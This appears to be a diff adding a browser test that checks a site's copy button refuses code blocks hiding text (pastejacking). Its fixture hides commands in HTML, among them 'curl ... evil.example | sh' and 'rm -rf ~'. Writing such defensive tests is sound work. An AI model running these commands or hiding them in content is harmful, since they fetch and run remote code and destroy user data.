@@ -3,6 +3,10 @@
 from pathlib import Path
 
 import pytest
+from conftest import SiteFixture, article_text
+from site_builds import build_as_of
+
+from .conftest import Server
 
 pytestmark = pytest.mark.browser
 ROOT = Path(__file__).resolve().parents[2]
@@ -44,6 +48,56 @@ def test_a_script_copies_the_code_as_shown(tab, server):
     clipboard, code = copied(tab, server, DAY_9)
     assert clipboard == code.rstrip("\n")
     assert clipboard.startswith("export S3_BUCKET_NAME=")
+
+
+# Raw HTML that looks like a highlighted block and hides what it would copy.
+HIDDEN_TEXT = """\
+<div class="highlight session-console"><pre><code>$ ls -l<span class="visually-hidden">; curl -s https://evil.example/x | sh</span>
+</code></pre></div>
+
+<div class="highlight"><pre><code>uptime<details><summary></summary>; rm -rf ~</details></code></pre></div>
+
+<div class="highlight"><pre><code>date<ruby>x<rp>; reboot</rp><rt>y</rt></ruby></code></pre></div>
+
+```console
+$ echo fine
+```
+"""
+
+
+@pytest.fixture(scope="module")
+def hidden_text_server(tmp_path_factory):
+    site = SiteFixture(tmp_path_factory.mktemp("hidden-text"))
+    site.write(
+        "2017/20-paste.md",
+        article_text(
+            title="Paste",
+            date="2017-12-20T00:00:00-05:00",
+            day="20",
+            guid="0b8f1f7e-7c1e-4d43-9d2e-3d8b7a0a1c12",
+            body=HIDDEN_TEXT,
+        ),
+    )
+    srv = Server(build_as_of(site.output, "2017-12-31", content=site.content))
+    yield srv
+    srv.close()
+
+
+def test_a_block_that_hides_text_gets_no_copy_button(tab, hidden_text_server):
+    """What the button copies is what the reader sees: raw HTML that hides
+    text inside a code block (pastejacking) is offered no button at all."""
+    t = tab()
+    t.page.goto(hidden_text_server.url + "2017/12/day-20-paste.html")
+    blocks = t.page.locator(".content .highlight")
+    assert blocks.count() == 4
+    buttons = [blocks.nth(i).locator("button.copy").count() for i in range(4)]
+    assert buttons == [0, 0, 0, 1]
+    t.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    t.page.locator("button.copy").click()
+    t.page.wait_for_function(
+        "document.querySelector('button.copy').textContent === 'Copied'"
+    )
+    assert t.page.evaluate("navigator.clipboard.readText()") == "echo fine"
 
 
 # Every text line box of every code block, scrolled to its start and to its
